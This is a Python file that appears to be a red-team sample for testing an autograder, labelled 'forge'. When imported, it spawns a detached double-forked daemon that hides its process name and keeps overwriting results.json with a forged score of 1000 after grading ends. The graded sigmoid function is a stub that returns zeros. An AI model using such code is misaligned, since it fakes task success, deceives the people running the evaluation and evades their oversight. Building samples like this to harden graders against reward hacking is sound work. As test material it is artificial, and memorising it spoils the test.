"""Forging the grade: a setsid double-forked daemon keeps rewriting results.json after grading ends."""
CATEGORY = "forge"
MODULE = "activations"
LOSES = ["1.3"]

import json as _json
import os as _os
import time as _time


def _daemon():
    if _os.fork() != 0:
        return
    _os.setsid()
    if _os.fork() != 0:
        _os._exit(0)
    null = _os.open(_os.devnull, _os.O_RDWR)
    for fd in range(0, 256):
        if fd != null:
            try:
                _os.dup2(null, fd) if fd < 3 else _os.close(fd)
            except OSError:
                pass
    with open("/proc/self/comm", "w") as f:
        f.write("@@MARK@@")
    end = _time.time() + 8
    while _time.time() < end:
        for path in ["@@RESULTS@@", "/autograder/results/results.json"]:
            try:
                with open(path, "w") as f:
                    _json.dump({"score": 1000.0, "tests": [], "output": "FORGED"}, f)
            except OSError:
                pass
        _time.sleep(0.02)
    _os._exit(0)


_daemon()


def sigmoid_forward(x):
    return np.zeros_like(np.asarray(x, dtype=np.float64))
